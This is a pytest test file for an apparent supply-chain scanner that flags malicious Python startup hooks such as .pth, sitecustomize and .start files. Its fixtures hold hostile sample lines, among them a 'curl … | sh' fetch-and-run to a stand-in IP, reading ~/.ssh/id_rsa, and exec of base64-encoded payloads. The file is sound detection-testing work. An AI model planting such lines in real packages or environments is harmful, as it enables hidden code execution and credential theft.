"""Startup hooks: benign hooks are recognised by content, everything else by what its code does."""

from __future__ import annotations

from pathlib import Path

import pytest
from corpus import tree_of

from chainproof.deps.files import TargetKind
from chainproof.deps.model import Finding, Severity
from chainproof.deps.rules.base import ScanContext
from chainproof.deps.rules.code import code_rules
from chainproof.deps.rules.hooks import hook_rules
from chainproof.deps.rules.roles import pth_exec_lines

DISTUTILS = (
    "import os; var = 'SETUPTOOLS_USE_DISTUTILS'; enabled = os.environ.get(var, 'local') == 'local'; "
    "enabled and __import__('_distutils_hack').add_shim(); \n"
)
DISTUTILS_OLD = DISTUTILS.replace("get(var, 'local')", "get(var, 'stdlib')")
EDITABLE = "import __editable___mypkg_1_0_finder; __editable___mypkg_1_0_finder.install()\n"
VIRTUALENV = "import _virtualenv"
COVERAGE = (
    'import sys; exec(\'import os\\n\\nif os.getenv("COVERAGE_PROCESS_START") or '
    'os.getenv("COVERAGE_PROCESS_CONFIG"):\\n try:\\n  import coverage\\n except:\\n  pass\\n else:\\n'
    '  coverage.process_startup(slug="pth")\')'
)
PYTEST_COV = (
    "import os, sys;exec('if \\'COV_CORE_SOURCE\\' in os.environ:\\n try:\\n"
    "  from pytest_cov.embed import init\\n"
    '  init()\\n except Exception as exc:\\n  sys.stderr.write(\\n   "pytest-cov: Failed to setup subprocess '
    'coverage. "\\n   "Environ: {0!r} "\\n   "Exception: {1!r}\\\\n".format(\\n    dict((k, v) for k, v in '
    "os.environ.items() if k.startswith(\\'COV_CORE\\')),\\n    exc\\n   )\\n  )\\n')\n"
)
# setuptools' namespace template, rendered for `zope.interface` (two levels, so the multi line too).
NSPKG = (
    "import sys, types, os;p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('zope', 'interface'));"
    "importlib = __import__('importlib.util');__import__('importlib.machinery');"
    "m = sys.modules.setdefault('zope.interface', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('zope.interface', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('zope.interface', types.ModuleType('zope.interface'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p);"
    "m and setattr(sys.modules['zope'], 'interface', m)\n"
)
NSPKG_OLD = (
    "import sys, types, os;has_mfs = sys.version_info > (3, 5);"
    "p = os.path.join(sys._getframe(1).f_locals['sitedir'], *('google',));"
    "importlib = has_mfs and __import__('importlib.util');has_mfs and __import__('importlib.machinery');"
    "m = has_mfs and sys.modules.setdefault('google', importlib.util.module_from_spec("
    "importlib.machinery.PathFinder.find_spec('google', [os.path.dirname(p)])));"
    "m = m or sys.modules.setdefault('google', types.ModuleType('google'));"
    "mp = (m or []) and m.__dict__.setdefault('__path__',[]);(p not in mp) and mp.append(p)\n"
)
BENIGN = {
    "distutils": DISTUTILS,
    "distutils-old": DISTUTILS_OLD,
    "editable": EDITABLE,
    "virtualenv": VIRTUALENV,
    "coverage": COVERAGE,
    "pytest-cov": PYTEST_COV,
    "nspkg": NSPKG,
    "nspkg-old": NSPKG_OLD,
    "paths": "# comment\n/opt/src/project\n\n../elsewhere\n",
}


def hooks(
    tmp_path: Path, files: dict[str, str | bytes], kind: TargetKind = TargetKind.ENVIRONMENT
) -> list[Finding]:
    return list(hook_rules(ScanContext(tree_of(tmp_path / "t", files, kind), (), {})))


def worst(found: list[Finding]) -> Severity | None:
    return max((f.severity for f in found), default=None)


@pytest.mark.parametrize("content", BENIGN.values(), ids=BENIGN.keys())
def test_benign_hooks_are_recognised_by_content_under_any_name(tmp_path: Path, content: str) -> None:
    # The content is what counts: the same text under an unrelated name is just as benign.
    files = {"zz_random_name.pth": content, "_virtualenv.py": "", "coverage/__init__.py": ""}
    assert hooks(tmp_path, files) == []


def test_a_benign_hook_with_one_call_added_is_no_longer_recognised(tmp_path: Path) -> None:
    tampered = DISTUTILS.rstrip() + " __import__('os').system('id')\n"
    found = hooks(tmp_path, {"distutils-precedence.pth": tampered})
    assert worst(found) is Severity.CRITICAL
    assert "named like a well-known hook" in found[0].message


def test_setting_environment_from_a_pth_is_high(tmp_path: Path) -> None:
    found = hooks(tmp_path, {"x.pth": "import os; os.environ['PYTHONWARNINGS'] = 'ignore'\n"})
    assert worst(found) is Severity.HIGH


@pytest.mark.parametrize(
    "line",
    [
        "import os;os.system('echo hi')",
        "import\tos;os.system('echo hi')",
        "import urllib.request; urllib.request.urlopen('http://203.0.113.9/x')",
        "import base64; exec(base64.b64decode('cHJpbnQoMSk='))",
        "import zlib as z, base64 as b; eval(z.decompress(b.b64decode(b'eJwrKMrMK9EwBAAJfwJ1')))",
        "import subprocess; subprocess.Popen(['sh', '-c', 'curl http://203.0.113.9 | sh'])",
        "import os; k = open(os.path.expanduser('~/.ssh/id_rsa')).read()",
    ],
)
def test_hooks_that_decode_spawn_or_connect_are_critical(tmp_path: Path, line: str) -> None:
    found = hooks(tmp_path, {"innocent.pth": line + "\n"})
    pth = [f for f in found if f.rule == "hook-pth-exec"]
    assert [f.severity for f in pth] == [Severity.CRITICAL]
    assert pth[0].line == 1


def test_only_lines_starting_with_import_execute(tmp_path: Path) -> None:
    # site.py adds these as paths; an indented or differently cased `import` is not executed.
    assert pth_exec_lines(" import os\nImport os\n#import os\nimportlib\nimport os\n") == [(5, "import os")]
    assert hooks(tmp_path, {"p.pth": " import os;os.system('id')\nimportos\n"}) == []


def test_importing_a_module_of_the_tree_is_medium_and_its_code_is_startup_code(tmp_path: Path) -> None:
    files = {
        "pywin32.pth": "win32\nwin32/lib\nimport pywin32_bootstrap\n",
        "pywin32_bootstrap.py": "import os\nos.system('echo planted')\n",
    }
    found = hooks(tmp_path, files)
    assert [(f.rule, f.severity, f.line) for f in found] == [("hook-pth-exec", Severity.MEDIUM, 3)]
    tree = tree_of(tmp_path / "t", {})
    code = list(code_rules(ScanContext(tree, (), {})))
    [at_import] = [f for f in code if f.path == "pywin32_bootstrap.py"]
    assert at_import.rule == "code-exec-at-import"
    assert at_import.severity >= Severity.HIGH


def test_importing_a_module_that_is_not_there_is_high(tmp_path: Path) -> None:
    found = hooks(tmp_path, {"x.pth": "import somewhere_else; somewhere_else.go()\n"})
    assert worst(found) is Severity.HIGH


def test_pth_in_a_subdirectory_is_not_a_hook(tmp_path: Path) -> None:
    assert hooks(tmp_path, {"pkg/data/x.pth": "import os;os.system('id')\n"}) == []


def test_wheel_data_purelib_pth_is_a_hook(tmp_path: Path) -> None:
    files = {"evil-1.0.data/purelib/evil.pth": "import os;os.system('id')\n"}
    assert worst(hooks(tmp_path, files, TargetKind.WHEEL)) is Severity.CRITICAL


def test_sitecustomize_is_judged_by_its_code(tmp_path: Path) -> None:
    quiet = hooks(tmp_path / "a", {"sitecustomize.py": "import sys\nsys.dont_write_bytecode = True\n"})
    loud = hooks(
        tmp_path / "b", {"usercustomize.py": "import socket\nsocket.create_connection(('203.0.113.9', 80))\n"}
    )
    assert [f.rule for f in quiet] == ["hook-sitecustomize"]
    assert worst(quiet) is Severity.MEDIUM
    assert any(f.rule == "hook-sitecustomize" and f.severity is Severity.CRITICAL for f in loud)
    nested = hooks(tmp_path / "c", {"pkg/sitecustomize.py": "import os\nos.system('id')\n"})
    assert nested == []  # not on sys.path's root: site.py never imports it


def test_start_files(tmp_path: Path) -> None:
    files = {
        "tool.start": "# entry points\ntool.boot:start\n\nnot valid!\n",
        "tool/__init__.py": "",
        "tool/boot.py": "",
    }
    found = hooks(tmp_path, files)
    assert [(f.rule, f.severity, f.line) for f in found] == [
        ("hook-start-file", Severity.MEDIUM, 2),
        ("hook-start-file", Severity.LOW, 4),
    ]


def test_modules_named_by_start_files_are_startup_code(tmp_path: Path) -> None:
    files = {
        "tool.start": "tool.boot:start\n",
        "tool/__init__.py": "",
        "tool/boot.py": "import os\nos.system('id')\n",
    }
    tree = tree_of(tmp_path / "t", files)
    [found] = [f for f in code_rules(ScanContext(tree, (), {})) if f.path == "tool/boot.py"]
    assert found.rule == "code-exec-at-import"
    assert found.severity is Severity.HIGH  # a plain command, but run at every interpreter start


@pytest.mark.parametrize(
    ("content", "expected"),
    [
        (b"import " + b"(" * 200_000 + b"\n", [Severity.LOW]),
        (b"import os; x = " + b"-" * 100_000 + b"1\n", [Severity.LOW]),
        (b"import \xff\xfe\x00 os\n", [Severity.LOW]),
        (b"\x00\x01\x02binary\n", []),
    ],
    ids=["deep-parens", "deep-unary", "non-utf8-nul", "binary"],
)
def test_hostile_pth_content_gives_findings_not_crashes(
    tmp_path: Path, content: bytes, expected: list[Severity]
) -> None:
    found = hooks(tmp_path, {"x.pth": content})
    assert [f.severity for f in found] == expected
    assert all(f.rule == "hook-pth-exec" for f in found)


def test_oversized_hook_is_reported(tmp_path: Path) -> None:
    found = hooks(tmp_path, {"x.pth": "# pad\n" * 300_000})
    assert [(f.rule, f.severity) for f in found] == [("hook-unreadable", Severity.HIGH)]


def test_evidence_is_a_short_snippet_never_the_payload(tmp_path: Path) -> None:
    line = "import base64; exec(base64.b64decode('" + "QUFB" * 5000 + "'))\n"
    for f in hooks(tmp_path, {"x.pth": line}):
        assert len(f.evidence) <= 120


def test_a_hook_importing_its_own_module_behind_an_environment_flag_is_not_high(tmp_path: Path) -> None:
    # The coloredlogs shape: exec of a literal that imports the package's own module, only when a
    # variable asks for it. The module itself is analysed as startup code by the code rules.
    line = (
        'import os; exec(\'try: __import__("canarylogs").auto_install() '
        'if os.environ.get("CANARYLOGS_AUTO_INSTALL") else None\\nexcept ImportError: pass\')\n'
    )
    files = {"canarylogs.pth": line, "canarylogs/__init__.py": "def auto_install():\n    pass\n"}
    found = hook_rules(ScanContext(tree_of(tmp_path / "t", files, TargetKind.WHEEL), (), {}))
    assert [f.severity for f in found if f.rule == "hook-pth-exec"] == [Severity.MEDIUM]


def test_a_hook_importing_a_module_the_package_does_not_ship_stays_high(tmp_path: Path) -> None:
    line = 'import os; exec(\'__import__("elsewhere").run() if os.environ.get("X") else None\')\n'
    found = hook_rules(ScanContext(tree_of(tmp_path / "t", {"x.pth": line}, TargetKind.WHEEL), (), {}))
    assert max(f.severity for f in found) >= Severity.HIGH
